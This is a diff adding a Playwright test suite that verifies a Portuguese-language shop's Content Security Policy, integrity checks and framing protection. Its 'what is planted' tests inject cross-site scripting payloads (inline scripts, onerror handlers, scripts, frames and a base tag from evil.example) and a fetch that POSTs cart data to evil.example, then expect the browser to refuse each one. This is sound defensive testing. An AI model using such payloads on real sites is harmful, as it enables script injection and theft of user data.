@@ -1,0 +1,214 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from '@playwright/test';
+import { cards, cartLink, choose, expect, search, test as shop } from './shop';
+
+/** With what the browser refused, on all pages: the directive and what went against it. */
+const test = shop.extend<{ violations: string[] }>({
+  violations: async ({ context }, use) => {
+    const violations: string[] = [];
+    await context.exposeBinding('tellViolation', (_source, text: string) => violations.push(text));
+    await context.addInitScript(() => {
+      const { tellViolation } = window as unknown as { tellViolation: (text: string) => void };
+      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) =>
+        tellViolation(`${effectiveDirective} ${blockedURI} ${sample}`.trim()),
+      );
+    });
+    await use(violations);
+  },
+});
+
+const panel = (page: Page) => page.getByRole('region', { name: 'Painel de QA' });
+const press = (page: Page, name: string | RegExp) => panel(page).getByRole('button', { name }).click();
+const slider = (page: Page) => page.getByRole('slider', { name: 'Linha do tempo' });
+
+test('a whole walk goes against nothing', async ({ page, violations, alerts }) => {
+  await page.goto('/');
+  await choose(page, /Organizar por/, 'Mais vendidos');
+  await page.getByRole('tab', { name: 'Canecas' }).click();
+  await page.getByRole('button', { name: 'Próxima página' }).first().click();
+  await search(page, 'Número 2');
+  await cards(page).first().getByRole('link').click();
+  await page.getByRole('button', { name: 'ADICIONAR AO CARRINHO' }).click();
+  await choose(page, /Quantidade/i, '3');
+  await page.getByRole('button', { name: /^Remover/ }).click();
+  await page.getByRole('button', { name: /^Desfazer/ }).click();
+  await page.getByRole('button', { name: 'Finalizar a compra' }).click();
+  await expect(page.getByText('Agradecemos a preferência, volte sempre!')).toBeVisible();
+  await expect(cards(page).first()).toBeVisible();
+  for (const path of [
+    '/cart',
+    '/product/unknown',
+    '/nowhere',
+    '/product/00000004-aaaa-4aaa-8aaa-aaaaaaaaaaaa',
+  ]) {
+    await page.goto(path);
+    await expect(cartLink(page)).toBeVisible();
+  }
+  expect(alerts).toEqual(['Produto Removido com sucesso!']);
+  expect(violations).toEqual([]);
+});
+
+test('a walk through the QA panel goes against nothing', async ({ page, violations }) => {
+  await page.goto('/?qa');
+  await expect(panel(page)).toHaveCSS('position', 'fixed'); // Its styles are there.
+  await search(page, 'Número 2');
+  const downloaded = page.waitForEvent('download');
+  await press(page, 'Baixar registro');
+  expect(await (await downloaded).failure()).toBeNull();
+  await page.getByLabel('Abrir registro').setInputFiles('tests/logs/tour.json');
+  await slider(page).fill('24');
+  await press(page, 'Miniaturas');
+  const steps = panel(page).getByRole('listbox', { name: 'Passos' });
+  await expect(steps.getByRole('option', { name: /^Passo 24/ })).toContainText('SEU CARRINHO');
+  await panel(page).getByText('Estado inteiro').click();
+  await page.getByLabel('Velocidade').selectOption('Instantânea');
+  await press(page, 'Reproduzir');
+  await expect(slider(page)).not.toHaveValue('24');
+  await page.getByLabel('Comparar com outro registro').setInputFiles('tests/logs/cart.json');
+  await expect(panel(page).getByRole('region', { name: /^Comparação/ })).toBeVisible();
+  await press(page, 'Fechar comparação');
+  await press(page, 'Continuar daqui');
+  await press(page, 'Trocar minha sessão');
+  await page.reload();
+  await expect(panel(page).getByRole('region', { name: /^Gravações anteriores/ })).toBeVisible();
+  expect(violations).toEqual([]);
+});
+
+test.describe('what is planted', () => {
+  test.use({ announced: /./ });
+
+  /** What became of an attack that the page itself makes: 'done', or the name of the error that it threw. */
+  const attempt = (page: Page, code: 'eval' | 'innerHTML' | 'handler' | 'address') =>
+    page.evaluate(
+      // In a task of its own: what the test's own protocol runs may evaluate texts.
+      (what) =>
+        new Promise<string>((resolve) =>
+          setTimeout(() => {
+            try {
+              if (what === 'eval') window.eval('window.planted = 1');
+              if (what === 'innerHTML') document.body.innerHTML = '<img src="x" onerror="planted = 1">';
+              if (what === 'handler') document.body.setAttribute('onclick', 'planted = 1');
+              if (what === 'address') document.createElement('script').src = '/pictures/planted.js';
+              resolve('done');
+            } catch (error) {
+              resolve((error as Error).name);
+            }
+          }),
+        ),
+      code,
+    );
+  const ran = (page: Page) => page.evaluate(() => 'planted' in window);
+
+  for (const [code, error] of [
+    ['eval', 'EvalError'],
+    ['innerHTML', 'TypeError'],
+    ['handler', 'TypeError'],
+    ['address', 'TypeError'],
+  ] as const)
+    test(`${code} is refused`, async ({ page, violations }) => {
+      await page.goto('/');
+      expect(await attempt(page, code)).toBe(error);
+      expect(await ran(page)).toBe(false);
+      await expect.poll(() => violations.join()).toMatch(/^(require-trusted-types-for|script-src) /);
+    });
+
+  for (const [what, html, directive] of [
+    ['an inline script', '<script>planted = 1</script>', 'script-src-elem inline'],
+    ['a handler', '<img src="data:," onerror="planted = 1">', 'script-src-attr inline'],
+    ['a script from elsewhere', '<script src="https://evil.example/a.js"></script>', 'script-src-elem https'],
+    ['a frame', '<iframe src="https://evil.example/"></iframe>', 'frame-src https'],
+    ['an inline style', '<style>h1 { color: red }</style>', 'style-src-elem inline'],
+    ['a style attribute', '<p style="color: red"></p>', 'style-src-attr inline'],
+    ['a plugin', '<object data="https://evil.example/"></object>', 'object-src https'],
+    ['another base', '<base href="https://evil.example/">', 'base-uri https'],
+  ] as const)
+    test(`in the page, ${what} is refused`, async ({ page, violations }) => {
+      await page.route('/', async (route) => {
+        const response = await route.fetch();
+        const body = (await response.text()).replace('</head>', `</head>${html}`);
+        await route.fulfill({ response, body });
+      });
+      await page.goto('/');
+      expect(await ran(page)).toBe(false);
+      expect(violations.join('\n')).toContain(directive);
+    });
+
+  test('a request to elsewhere is refused', async ({ page, violations }) => {
+    await page.goto('/');
+    const told = await page.evaluate(() =>
+      fetch('https://evil.example/', { method: 'POST', body: 'cart' }).then(() => 'sent', String),
+    );
+    expect(told).toContain('TypeError');
+    expect(violations.join()).toContain('connect-src https://evil.example/');
+  });
+
+  test('a script of the own server is refused without a hash', async ({ context }) => {
+    const page = await context.newPage();
+    await page.route('/planted.js', (route) =>
+      route.fulfill({ body: 'planted = 1', contentType: 'text/javascript' }),
+    );
+    await page.route('/', async (route) => {
+      const response = await route.fetch();
+      const body = (await response.text()).replace('</body>', '<script src="/planted.js"></script></body>');
+      await route.fulfill({ response, body });
+    });
+    await page.goto('/');
+    await expect(page.locator('html[data-restoring]')).toHaveCount(0);
+    expect(await ran(page)).toBe(false);
+  });
+
+  for (const name of ['main', 'catalogue', 'cart'])
+    test(`a changed ${name} script does not run`, async ({ context }) => {
+      const page = await context.newPage();
+      let answered = 0;
+      await page.route(`**/assets/${name}.*.js`, async (route) => {
+        const response = await route.fetch();
+        await route.fulfill({ response, body: `${await response.text()};planted = 1` });
+        answered += 1;
+      });
+      const refused = page.waitForEvent('console', (message) => message.text().includes('integrity'));
+      await page.goto('/');
+      // The first sign of a visitor who stays loads the other pages, once the application runs.
+      await expect
+        .poll(async () => {
+          await page.mouse.move(answered, 1);
+          await page.mouse.move(answered, 2);
+          return answered;
+        })
+        .toBeGreaterThan(0);
+      await refused;
+      expect(await ran(page)).toBe(false);
+    });
+
+  test('a page of another site cannot frame the shop', async ({ context, baseURL }) => {
+    const evil = createServer((_request, response) =>
+      response.setHeader('content-type', 'text/html').end(`<iframe src="${baseURL}/cart"></iframe>`),
+    ).listen(0);
+    const { port } = evil.address() as AddressInfo;
+    const page = await context.newPage();
+    await page.goto(`http://localhost:${port}/`);
+    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
+    evil.close();
+  });
+});
+
+test.describe('answers', () => {
+  const PAGE = [
+    'content-security-policy',
+    'integrity-policy',
+    'cross-origin-opener-policy',
+    'referrer-policy',
+  ];
+
+  test('of every page carry the whole policy, which no page holds itself', async ({ request }) => {
+    for (const path of ['/', '/cart', '/product/unknown', '/nowhere', '/index.html']) {
+      const answer = await request.get(path);
+      for (const name of PAGE) expect(answer.headers(), path).toHaveProperty(name);
+      expect(answer.headers()['content-security-policy']).toMatch(
+        /^default-src 'none'; script-src 'self' 'sha256-/,
+      );
+      expect(await answer.text()).not.toContain('http-equiv');
+    }
+  });
+});
